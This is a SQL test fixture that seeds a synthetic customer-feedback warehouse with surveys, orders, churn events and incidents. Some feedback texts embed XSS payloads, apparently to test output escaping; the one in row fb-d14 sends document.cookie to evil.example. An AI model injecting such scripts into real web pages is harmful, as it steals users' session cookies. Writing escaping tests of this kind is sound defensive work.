-- A tiny, hand-made warehouse for the tests (tests/conftest.py loads it, then rebuilds the rollups).
--
-- Every number the tests expect is derived by hand from the plans below; the derivations are
-- written out in tests/conftest.py (`expected`). Keep the two in step when you change anything.
--
-- Periods (both 90 days):
--   previous  2026-05-05 .. 2026-08-02
--   current   2026-08-03 .. 2026-10-31
--
-- Org tree: lumen (company) -> bu_na (us_east, us_west, canada), bu_cn (shanghai, beijing, south_china).
-- Customers: a "panel" of 130 customers who answer the NPS survey once in each period
--   (ids prefix || 3 digits: uw001-uw030, ue001-ue030, ca001-ca010, sh001-sh030, bj001-bj020, sc001-sc010)
--   plus 12 hand-written customers x01-x12 for signups, churn, and one edge case (x12).
-- Segment of a panel customer i: ['starter','plus','family','business'][1 + i % 4].

-- ---------------------------------------------------------------- org units, themes
insert into org_units values
    ('lumen',       'Lumen Market',  null,    'company'),
    ('bu_na',       'North America', 'lumen', 'business_unit'),
    ('bu_cn',       'Greater China', 'lumen', 'business_unit'),
    ('us_east',     'US East',       'bu_na', 'region'),
    ('us_west',     'US West',       'bu_na', 'region'),
    ('canada',      'Canada',        'bu_na', 'region'),
    ('shanghai',    'Shanghai',      'bu_cn', 'region'),
    ('beijing',     'Beijing',       'bu_cn', 'region'),
    ('south_china', 'South China',   'bu_cn', 'region');

insert into themes values
    ('late_delivery',    'Late delivery',         'negative', true),
    ('billing',          'Billing problems',      'negative', true),
    ('long_wait',        'Long wait for support', 'negative', false),
    ('support_rude',     'Unhelpful support',     'negative', false),
    ('support_friendly', 'Friendly support',      'positive', false),
    ('easy_app',         'Easy-to-use app',       'positive', false),
    ('price',            'Price',                 'neutral',  false);

-- ---------------------------------------------------------------- customers (130 panel + 12 = 142)
-- Panel customers all signed up between 2025-06-02 and 2025-07-01 (before both periods).
insert into customers
select
    p.prefix || lpad(r.i::varchar, 3, '0'),
    p.unit_id,
    ['starter', 'plus', 'family', 'business'][1 + r.i % 4],
    p.country,
    ['basic', 'plus', 'family', 'business'][1 + r.i % 4],
    date '2025-06-01' + r.i::integer,
    p.prefix || lpad(r.i::varchar, 3, '0') || '@customers.example',
    null
from (values
        ('uw', 'us_west',     'US', 30),
        ('ue', 'us_east',     'US', 30),
        ('ca', 'canada',      'CA', 10),
        ('sh', 'shanghai',    'CN', 30),
        ('bj', 'beijing',     'CN', 20),
        ('sc', 'south_china', 'CN', 10)
     ) p(prefix, unit_id, country, size),
     range(1, 31) r(i)
where r.i <= p.size;

insert into customers values
    ('x01', 'us_west',     'starter',  'US', 'basic',    date '2025-02-01', 'x01@customers.example', null),  -- churns 2026-03-10 (before both periods)
    ('x02', 'shanghai',    'plus',     'CN', 'plus',     date '2025-02-01', null, '+86 21 5555 0102'),      -- churns 2026-03-10 (before both periods)
    ('x03', 'us_west',     'family',   'US', 'family',   date '2025-03-01', null, null),                    -- churns 2026-06-15 (previous)
    ('x04', 'us_east',     'business', 'US', 'business', date '2025-03-01', null, null),                    -- churns 2026-05-05 (first day of previous)
    ('x05', 'beijing',     'starter',  'CN', 'basic',    date '2025-03-01', null, null),                    -- churns 2026-08-02 (last day of previous)
    ('x06', 'us_west',     'plus',     'US', 'plus',     date '2026-06-01', null, null),                    -- signs up in previous, churns 2026-09-10 (current)
    ('x07', 'canada',      'family',   'CA', 'family',   date '2026-07-01', null, null),                    -- signs up in previous
    ('x08', 'us_west',     'business', 'US', 'business', date '2026-08-03', null, null),                    -- signs up on the first day of current
    ('x09', 'south_china', 'starter',  'CN', 'basic',    date '2026-09-15', null, null),                    -- signs up AND churns (2026-10-15) within current
    ('x10', 'us_west',     'plus',     'US', 'plus',     date '2026-10-01', null, null),                    -- signs up in current
    ('x11', 'beijing',     'family',   'CN', 'family',   date '2025-05-01', null, null),                    -- churns 2026-09-01 (current)
    ('x12', 'us_east',     'business', 'US', 'business', date '2025-05-01', 'x12@customers.example', null); -- answers NPS 2026-08-01 and 2026-08-20

-- ---------------------------------------------------------------- feedback: NPS surveys (260 panel rows + 2 for x12)
-- One answer per panel customer per period: previous on 2026-06-01 + (i-1) days, current on 2026-09-01 + (i-1) days.
-- Customer i is a promoter if i <= promoters (score 9 + i % 2), a passive if i <= promoters + passives
-- (score 7 + i % 2), otherwise a detractor (score i % 7, always 0..6).
insert into feedback
with plan(prefix, period, promoters, passives, detractors) as (
    values
        ('uw', 'prev', 20, 6, 4),   ('uw', 'cur', 6, 9, 15),     -- us_west: NPS 53.3 -> -30, significant drop
        ('ue', 'prev', 12, 12, 6),  ('ue', 'cur', 13, 11, 6),    -- us_east (+ x12 below): no significant change
        ('ca', 'prev', 8, 2, 0),    ('ca', 'cur', 0, 2, 8),      -- canada: n = 10, too few to test
        ('sh', 'prev', 15, 9, 6),   ('sh', 'cur', 15, 9, 6),
        ('bj', 'prev', 10, 6, 4),   ('bj', 'cur', 12, 4, 4),
        ('sc', 'prev', 5, 3, 2),    ('sc', 'cur', 6, 2, 2)
),
answers as (
    select
        p.prefix, p.period, r.i,
        p.prefix || lpad(r.i::varchar, 3, '0') as customer_id,
        case when r.i <= p.promoters then 'promoter'
             when r.i <= p.promoters + p.passives then 'passive'
             else 'detractor' end as kind
    from plan p, range(1, 31) r(i)
    where r.i <= p.promoters + p.passives + p.detractors
)
select
    'nps-' || a.period || '-' || a.customer_id,
    a.customer_id,
    c.unit_id,
    c.segment,
    'survey',
    true,
    'email',
    'relationship',
    'nps_survey',
    null,
    (case a.period when 'prev' then timestamp '2026-06-01 10:00:00' else timestamp '2026-09-01 10:00:00' end)
        + (a.i - 1) * interval 1 day,
    case when a.prefix in ('sh', 'bj', 'sc') then 'zh' else 'en' end,
    case a.kind when 'promoter' then 9 + a.i % 2 when 'passive' then 7 + a.i % 2 else a.i % 7 end,
    null, null, null,
    case
        when a.kind = 'detractor' and a.prefix = 'uw' and a.period = 'cur' then 'Delivery was late again'
        when a.kind = 'detractor' and a.prefix = 'uw' then 'Support took far too long to answer'
        when a.kind = 'detractor' and a.prefix in ('sh', 'bj', 'sc') then '送货太慢了'
        when a.kind = 'promoter' and a.i % 5 = 0 then 'Love the app'
    end,
    case
        when a.kind = 'detractor' and a.prefix = 'uw' and a.period = 'cur' then -0.6
        when a.kind = 'detractor' and a.prefix = 'uw' then -0.4
        when a.kind = 'detractor' and a.prefix in ('sh', 'bj', 'sc') then -0.5
        when a.kind = 'promoter' and a.i % 5 = 0 then 0.7
    end,
    case
        when a.kind = 'detractor' and a.prefix = 'uw' and a.period = 'cur' then ['late_delivery']
        when a.kind = 'detractor' and a.prefix = 'uw' then ['long_wait']
        when a.kind = 'detractor' and a.prefix in ('sh', 'bj', 'sc') then ['late_delivery']
        when a.kind = 'promoter' and a.i % 5 = 0 then ['easy_app']
    end
from answers a join customers c using (customer_id);

-- x12 (us_east) answers twice in August, once in each period: a detractor on 2026-08-01 (previous),
-- a promoter on 2026-08-20 (current). Its August revenue is 20.00.
insert into feedback values
    ('nps-prev-x12', 'x12', 'us_east', 'business', 'survey', true, 'email', 'relationship', 'nps_survey', null,
     timestamp '2026-08-01 10:00:00', 'en', 3, null, null, null, 'Two late orders in a row', -0.5, ['late_delivery']),
    ('nps-cur-x12',  'x12', 'us_east', 'business', 'survey', true, 'email', 'relationship', 'nps_survey', null,
     timestamp '2026-08-20 10:00:00', 'en', 10, null, null, null, 'Much better lately', 0.6, ['easy_app']);

-- ---------------------------------------------------------------- feedback: CSAT surveys (80 rows)
-- customers prefix001..prefix020; satisfied (4 or 5) if i <= satisfied, else 1..3.
-- previous on 2026-07-01 + (i-1) days, current on 2026-10-01 + (i-1) days.
insert into feedback
with plan(prefix, period, n, satisfied) as (
    values ('uw', 'prev', 20, 16), ('uw', 'cur', 20, 8), ('sh', 'prev', 20, 14), ('sh', 'cur', 20, 12)
)
select
    'csat-' || p.period || '-' || c.customer_id, c.customer_id, c.unit_id, c.segment,
    'survey', true, 'chat', 'support', 'csat_after_contact', null,
    (case p.period when 'prev' then timestamp '2026-07-01 14:00:00' else timestamp '2026-10-01 14:00:00' end)
        + (r.i - 1) * interval 1 day,
    case p.prefix when 'sh' then 'zh' else 'en' end,
    null,
    case when r.i <= p.satisfied then 4 + r.i % 2 else 1 + r.i % 3 end,
    null, null, null, null, null
from plan p, range(1, 21) r(i), customers c
where r.i <= p.n and c.customer_id = p.prefix || lpad(r.i::varchar, 3, '0');

-- ---------------------------------------------------------------- feedback: CES surveys (60 rows)
-- customers prefix001..prefix015; effort = low_score if i <= n_low, else high_score.
-- previous on 2026-05-10 + (i-1) days, current on 2026-08-10 + (i-1) days.
insert into feedback
with plan(prefix, period, n, n_low, low_score, high_score) as (
    values
        ('uw', 'prev', 15, 10, 2, 3),  ('uw', 'cur', 15, 10, 3, 4),
        ('bj', 'prev', 15, 5, 3, 4),   ('bj', 'cur', 15, 5, 4, 5)
)
select
    'ces-' || p.period || '-' || c.customer_id, c.customer_id, c.unit_id, c.segment,
    'survey', true, 'web', 'delivery', 'ces_after_delivery', null,
    (case p.period when 'prev' then timestamp '2026-05-10 16:00:00' else timestamp '2026-08-10 16:00:00' end)
        + (r.i - 1) * interval 1 day,
    case p.prefix when 'bj' then 'zh' else 'en' end,
    null, null,
    case when r.i <= p.n_low then p.low_score else p.high_score end,
    null, null, null, null
from plan p, range(1, 16) r(i), customers c
where r.i <= p.n and c.customer_id = p.prefix || lpad(r.i::varchar, 3, '0');

-- ---------------------------------------------------------------- feedback: unsolicited (14 rows, every other source)
-- previous: d03 d04 d09 d10 d13 (5); current: d01 d02 d07 d08 d11 d12 d14 (7); outside both: d05 d06.
insert into feedback values
    ('fb-d01', 'uw021', 'us_west',     'plus',     'review', false, 'app_store', 'delivery', 'app_review', null,
     timestamp '2026-08-03 00:00:00', 'en', null, null, null, 1,
     'Late again <script>alert(1)</script>', -0.8, ['late_delivery']),
    ('fb-d02', null,    'us_west',     null,       'social', false, 'twitter',   'delivery', 'mention', null,
     timestamp '2026-10-31 23:59:59', 'en', null, null, null, null,
     'Third late parcel this month, contact me at jane.doe@example.com', -0.5, ['late_delivery']),
    ('fb-d03', 'uw005', 'us_west',     'plus',     'ticket', false, 'web',       'billing',  'help_center', 'k-uw-prev-01',
     timestamp '2026-08-02 23:59:59', 'en', null, null, null, null,
     'I was charged twice for my order', -0.7, ['billing']),
    ('fb-d04', 'ue003', 'us_east',     'business', 'review', false, 'app_store', 'usage',    'app_review', null,
     timestamp '2026-05-05 00:00:00', 'en', null, null, null, 5,
     'Great app, <b>love it</b>', 0.9, ['easy_app']),
    ('fb-d05', 'ue004', 'us_east',     'starter',  'chat',   false, 'chat',      'delivery', 'live_chat', null,
     timestamp '2026-05-04 23:59:59', 'en', null, null, null, null,
     'Where is my order?', -0.1, ['late_delivery']),
    ('fb-d06', 'ca002', 'canada',      'family',   'email',  false, 'email',     'billing',  'support_mailbox', null,
     timestamp '2026-11-01 00:00:00', 'en', null, null, null, null,
     'Thanks for the quick refund', 0.6, ['support_friendly']),
    ('fb-d07', 'sh002', 'shanghai',    'family',   'review', false, 'tmall',     'delivery', 'store_review', null,
     timestamp '2026-09-12 20:00:00', 'zh', null, null, null, 2,
     '配送太慢了，等了两个星期', -0.6, ['late_delivery']),
    ('fb-d08', null,    'beijing',     null,       'social', false, 'weibo',     'support',  'mention', null,
     timestamp '2026-09-20 09:30:00', 'zh', null, null, null, null,
     '客服很热情，问题很快解决了', 0.8, ['support_friendly']),
    ('fb-d09', 'sc003', 'south_china', 'business', 'call',   false, 'phone',     'support',  'hotline', null,
     timestamp '2026-06-18 13:00:00', 'zh', null, null, null, null,
     '电话等了很久 <img src=x onerror=alert(1)>', -0.4, ['long_wait']),
    ('fb-d10', 'sh004', 'shanghai',    'starter',  'chat',   false, 'chat',      'purchase', 'live_chat', null,
     timestamp '2026-07-08 19:00:00', 'zh', null, null, null, null,
     '价格有点贵', -0.3, ['price']),
    ('fb-d11', 'uw007', 'us_west',     'business', 'call',   false, 'phone',     'support',  'hotline', null,
     timestamp '2026-09-05 08:15:00', 'en', null, null, null, null,
     'Waited 40 minutes on hold', -0.5, ['long_wait']),
    ('fb-d12', 'ca005', 'canada',      'plus',     'review', false, 'app_store', 'usage',    'app_review', null,
     timestamp '2026-10-10 12:00:00', 'en', null, null, null, 4,
     'Good value for the price', 0.5, ['price']),
    ('fb-d13', 'bj006', 'beijing',     'family',   'email',  false, 'email',     'account',  'support_mailbox', null,
     timestamp '2026-06-25 10:00:00', 'zh', null, null, null, null,
     '请更新我的地址，联系 wang.li@example.cn', 0.0, null),
    ('fb-d14', 'ue009', 'us_east',     'plus',     'social', false, 'facebook',  'support',  'mention', null,
     timestamp '2026-09-25 22:00:00', 'en', null, null, null, null,
     '<script>document.location="https://evil.example/?c="+document.cookie</script> worst service ever', -0.9,
     ['support_rude']);

-- ---------------------------------------------------------------- orders (27 previous, 29 current)
-- order i of a plan: ordered at base + (i-1) days 09:00, promised 3 days later,
-- delivered 5 days after ordering (late) if i <= late, else 2 days after (on time). Amount 20 + 5 * i.
insert into orders
with plan(prefix, period, n, late) as (
    values
        ('uw', 'prev', 10, 1), ('uw', 'cur', 10, 6),
        ('ue', 'prev', 5, 1),  ('ue', 'cur', 5, 1),
        ('ca', 'prev', 2, 0),  ('ca', 'cur', 2, 0),
        ('sh', 'prev', 5, 0),  ('sh', 'cur', 5, 2),
        ('bj', 'prev', 3, 0),  ('bj', 'cur', 3, 0),
        ('sc', 'prev', 2, 0),  ('sc', 'cur', 2, 1)
),
o as (
    select p.*, r.i, p.prefix || lpad(r.i::varchar, 3, '0') as customer_id,
           (case p.period when 'prev' then timestamp '2026-06-10 09:00:00' else timestamp '2026-09-10 09:00:00' end)
               + (r.i - 1) * interval 1 day as ordered_at
    from plan p, range(1, 11) r(i)
    where r.i <= p.n
)
select
    'ord-' || o.period || '-' || o.customer_id, o.customer_id, c.unit_id, o.ordered_at,
    o.ordered_at + interval 3 day,
    o.ordered_at + case when o.i <= o.late then interval 5 day else interval 2 day end,
    20 + 5 * o.i
from o join customers c using (customer_id);

insert into orders values
    -- delivered exactly when promised: not late
    ('ord-edge-1', 'x10', 'us_west', timestamp '2026-10-05 09:00:00', timestamp '2026-10-08 09:00:00',
     timestamp '2026-10-08 09:00:00', 35.50),
    -- not delivered yet: not late, not delivered
    ('ord-open-1', 'x08', 'us_west', timestamp '2026-10-30 09:00:00', timestamp '2026-11-02 09:00:00', null, 99.00);

-- ---------------------------------------------------------------- contacts (13 previous, 18 current)
insert into contacts
with plan(prefix, period, n) as (
    values
        ('uw', 'prev', 4), ('uw', 'cur', 8),
        ('ue', 'prev', 2), ('ue', 'cur', 2),
        ('ca', 'prev', 1), ('ca', 'cur', 1),
        ('sh', 'prev', 3), ('sh', 'cur', 3),
        ('bj', 'prev', 2), ('bj', 'cur', 2),
        ('sc', 'prev', 1), ('sc', 'cur', 1)
)
select
    'k-' || c.customer_id || '-' || p.period, c.customer_id, c.unit_id,
    ['phone', 'chat', 'email'][1 + r.i % 3],
    case when p.prefix = 'uw' and p.period = 'cur' then 'delivery' else 'billing' end,
    (case p.period when 'prev' then timestamp '2026-06-15 11:00:00' else timestamp '2026-09-15 11:00:00' end)
        + (r.i - 1) * interval 1 day,
    60 * r.i,
    300 + 30 * r.i,
    r.i % 2 = 0
from plan p, range(1, 9) r(i), customers c
where r.i <= p.n and c.customer_id = p.prefix || lpad(r.i::varchar, 3, '0');

insert into contacts values
    ('k-last', 'uw030', 'us_west', 'phone', 'delivery', timestamp '2026-10-31 15:00:00', 900, 600, false);

-- ---------------------------------------------------------------- incidents
insert into incidents values
    ('inc-1', 'us_west',  'delivery', timestamp '2026-09-01 06:00:00', timestamp '2026-09-20 18:00:00', 2,
     'Carrier capacity shortage at the West hub'),
    ('inc-2', 'shanghai', 'app',      timestamp '2026-07-03 12:00:00', timestamp '2026-07-03 15:30:00', 3,
     'App login outage'),
    ('inc-3', 'beijing',  'payments', timestamp '2026-10-28 08:00:00', null, 1,
     'Payment gateway errors (ongoing)');

-- ---------------------------------------------------------------- revenue (30 rows)
insert into revenue
select 'uw' || lpad(r.i::varchar, 3, '0'), 'us_west', date '2026-09-01', 50.00 from range(16, 26) r(i);   -- uw016-uw025
insert into revenue
select 'sh' || lpad(r.i::varchar, 3, '0'), 'shanghai', date '2026-09-01', 30.00 from range(25, 31) r(i);  -- sh025-sh030
insert into revenue
select 'bj' || lpad(r.i::varchar, 3, '0'), 'beijing', date '2026-06-01', 25.00 from range(17, 21) r(i);   -- bj017-bj020
insert into revenue
select 'x12', 'us_east', cast(date '2026-05-01' + r.k * interval 1 month as date), 20.00 from range(0, 6) r(k); -- May..Oct
insert into revenue values
    ('uw029', 'us_west', date '2026-09-01', 50.00),
    ('uw001', 'us_west', date '2026-09-01', 100.00),
    ('uw027', 'us_west', date '2026-06-01', 80.00),
    ('uw028', 'us_west', date '2026-06-01', 80.00);

-- ---------------------------------------------------------------- churn events (11 rows)
insert into churn_events values
    ('x01',   'us_west',     date '2026-03-10', 'moved away'),
    ('x02',   'shanghai',    date '2026-03-10', 'price'),
    ('x03',   'us_west',     date '2026-06-15', 'late deliveries'),
    ('x04',   'us_east',     date '2026-05-05', 'price'),
    ('x05',   'beijing',     date '2026-08-02', 'competitor'),
    ('x06',   'us_west',     date '2026-09-10', 'late deliveries'),
    ('x09',   'south_china', date '2026-10-15', 'trial ended'),
    ('x11',   'beijing',     date '2026-09-01', 'service'),
    ('uw029', 'us_west',     date '2026-10-20', 'late deliveries'),
    ('uw030', 'us_west',     date '2026-10-31', 'late deliveries'),
    ('sh030', 'shanghai',    date '2026-11-05', 'price');

-- ---------------------------------------------------------------- cases, initiatives, annotations
insert into cases (case_id, feedback_id, customer_id, unit_id, rule, owner, priority, status, opened_at, due_at,
                   first_contact_at, closed_at, root_cause, action_taken, customer_informed, version, updated_at,
                   segment, source, journey_stage) values
    ('case-1', 'nps-cur-uw030', 'uw030', 'us_west', 'detractor_follow_up', 'alice', 'high', 'closed',
     timestamp '2026-09-30 11:00:00', timestamp '2026-10-02 11:00:00', timestamp '2026-10-01 09:00:00',
     timestamp '2026-10-03 17:00:00', 'late_delivery', 'Refunded the shipping fee', true, 3,
     timestamp '2026-10-03 17:00:00', 'family', 'survey', 'relationship'),
    ('case-2', 'fb-d03', 'uw005', 'us_west', 'billing_complaint', null, 'urgent', 'open',
     timestamp '2026-08-03 08:00:00', timestamp '2026-08-04 08:00:00', null, null, null, null, null, 1,
     timestamp '2026-08-03 08:00:00', 'plus', 'ticket', 'billing');

insert into initiatives values
    ('ini-1', 'Faster West deliveries', 'late_delivery', 'us_west', date '2026-10-01', null,
     'New carrier for the West hub', 'bob'),
    ('ini-2', 'Shorter hold times', 'long_wait', 'bu_cn', date '2026-07-01', date '2026-09-30',
     'Extra agents at peak hours', 'li.wei');

insert into annotations values
    ('ann-1', 'us_west',  date '2026-09-01', 'incident',     'Carrier capacity shortage'),
    ('ann-2', 'lumen',    date '2026-08-15', 'price_change', 'Plus plan +10%'),
    ('ann-3', 'us_west',  date '2026-10-01', 'initiative',   'New West carrier'),
    ('ann-4', 'shanghai', date '2026-07-03', 'launch',       'App 5.0 released');
